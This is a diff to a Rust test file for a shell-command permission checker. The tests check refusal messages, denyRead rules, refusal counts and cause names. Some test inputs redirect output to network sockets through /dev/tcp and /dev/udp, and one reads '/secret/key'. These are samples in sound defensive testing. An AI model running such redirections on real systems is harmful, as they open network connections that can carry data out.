@@ -3,7 +3,9 @@
 #![expect(clippy::unwrap_used, reason = "helpers of tests may stop at the first surprise")]
 
 use bash_commands::Analyzer;
-use shell_permissions::{Action, AllFiles, Language, NoFiles, Options, Policy};
+use shell_permissions::{
+    Action, AllFiles, FileRule, Judgement, Language, NoFiles, Options, Pattern, Policy, Target, Verdict,
+};
 
 fn told(text: &str, language: Language) -> Vec<String> {
     let rules = [
@@ -98,6 +100,13 @@ fn messages_in_english() {
             ],
         ),
         (
+            "ls > /dev/tcp/example.com/80",
+            [
+                "bash may not write `/dev/tcp/example.com/80` by a redirection (it is a network connection)",
+                "Do not open connections through /dev/tcp or /dev/udp; use webfetch for web pages.",
+            ],
+        ),
+        (
             "ls 'x",
             [
                 "bash would not accept the command: single-quoted text is not closed; add `'` (byte 5, opened at byte 3)",
@@ -135,6 +144,13 @@ fn messages_in_chinese() {
             ],
         ),
         ("ls > $X", ["禁止通过重定向写入 `$X`（目标未知）", "把重定向的目标写成确定的路径。"]),
+        (
+            "ls > /dev/udp/h/9",
+            [
+                "禁止通过重定向写入 `/dev/udp/h/9`（这是网络连接）",
+                "不要通过 /dev/tcp 或 /dev/udp 建立网络连接；获取网页请用 webfetch。",
+            ],
+        ),
     ];
     for (text, expected) in table {
         assert_eq!(told(text, Language::ZhCn).get(..2).unwrap(), expected, "{text}");
@@ -154,4 +170,93 @@ fn long_and_strange_commands_stay_on_one_line() {
     let lines = told(&text, Language::En);
     assert_eq!(lines.len(), 2, "{lines:?}");
     assert!(lines.iter().all(|line| line.len() < 600 && !line.contains(char::is_control)));
+}
+
+fn judge(rules: &[(&str, Action)], options: Options, text: &str) -> Judgement {
+    let policy = Policy::new(options, rules.iter().copied()).unwrap();
+    policy.judge(text, &bash_commands::Options::default(), &mut Analyzer::new(), &NoFiles)
+}
+
+#[test]
+fn the_entry_that_forbids_a_target_is_told() {
+    let secret = |_: &Target<'_>| Err(FileRule { list: "denyRead", entry: Some("/secret".to_owned()) });
+    let policy = Policy::new(Options::default(), [("cat *", Action::Allow)]).unwrap();
+    let place = bash_commands::Options::default();
+    let judgement = policy.judge("cat < /secret/key", &place, &mut Analyzer::new(), &secret);
+    let expected = [
+        (Language::En, "bash may not read `/secret/key` by a redirection (denyRead: `/secret`)"),
+        (Language::ZhCn, "禁止通过重定向读取 `/secret/key`（命中 denyRead：`/secret`）"),
+    ];
+    for (language, line) in expected {
+        assert_eq!(judgement.text(language).lines().next(), Some(line));
+    }
+}
+
+#[test]
+fn sixteen_refusals_are_told_and_the_others_counted() {
+    let options = Options { allow_multiple: true, ..Options::default() };
+    for count in [16, 17, 40] {
+        let text = (0..count).map(|nth| format!("rm {nth}")).collect::<Vec<_>>().join("\n");
+        let judgement = judge(&[("ls", Action::Allow)], options, &text);
+        assert_eq!(judgement.refusals().len(), 16);
+        assert_eq!(judgement.more_refusals(), count - 16);
+        let last = |language| judgement.text(language).lines().last().unwrap().to_owned();
+        if count == 16 {
+            assert!(last(Language::En).contains("`rm 15`"), "{}", last(Language::En));
+        } else {
+            assert_eq!(last(Language::En), format!("and {} more refusals", count - 16));
+            assert_eq!(last(Language::ZhCn), format!("另有 {} 处被拒绝", count - 16));
+        }
+    }
+}
+
+#[test]
+fn causes_have_names_and_rules() {
+    let all = Options { allow_multiple: true, allow_pipe: true, strict_allow: true };
+    let one = Options { allow_multiple: false, ..all };
+    let unpiped = Options { allow_pipe: false, ..all };
+    let deep = "( ".repeat(200) + "ls" + &" )".repeat(200);
+    let rules = [("ls", Action::Allow), ("git", Action::Allow), ("git push", Action::Deny)];
+    let table: &[(Options, &str, &str, Option<&str>)] = &[
+        (all, "git push", "denied", Some("git push")),
+        (all, "rm x", "no-rule", None),
+        (all, "$X", "not-fixed", Some("git push")),
+        (one, "ls; ls", "multiple", None),
+        (unpiped, "ls | ls", "pipe", None),
+        (all, "ls > x", "redirection", None),
+        (all, "ls )", "syntax", None),
+        (all, &deep, "unreadable", None),
+    ];
+    for (options, text, name, rule) in table {
+        let judgement = judge(&rules, *options, text);
+        assert_eq!(judgement.verdict().name(), "deny", "{text}");
+        let causes = judgement.refusals().iter().map(|refusal| (refusal.cause.name(), refusal.cause.rule()));
+        assert!(
+            causes.clone().any(|cause| cause == (*name, *rule)),
+            "{text}: {:?}",
+            causes.collect::<Vec<_>>()
+        );
+    }
+    assert_eq!(judge(&rules, all, "ls; git log | ls").verdict().name(), "allow");
+    // What is not known, without a rule that denies.
+    let judgement = judge(&[("ls", Action::Allow)], one, "eval \"$X\"");
+    let names: Vec<_> = judgement.refusals().iter().map(|refusal| refusal.cause.name()).collect();
+    assert_eq!(names, ["no-rule", "multiple", "not-fixed"]);
+    assert!(judgement.refusals().iter().all(|refusal| refusal.cause.rule().is_none()));
+}
+
+#[test]
+fn a_pattern_without_parts_is_an_error_that_says_what_to_write() {
+    for text in ["", "  ", "\t\n"] {
+        let error = Pattern::parse(text).unwrap_err();
+        assert_eq!(error.to_string(), "a pattern is empty; write `*` for any command, or a command's name");
+    }
+}
+
+#[test]
+fn a_redirection_is_let_pass_where_every_file_is() {
+    let policy = Policy::new(Options::default(), [("ls", Action::Allow)]).unwrap();
+    let place = bash_commands::Options::default();
+    let judgement = policy.judge("ls > /etc/x", &place, &mut Analyzer::new(), &AllFiles);
+    assert_eq!(judgement.verdict(), Verdict::Allow);
 }
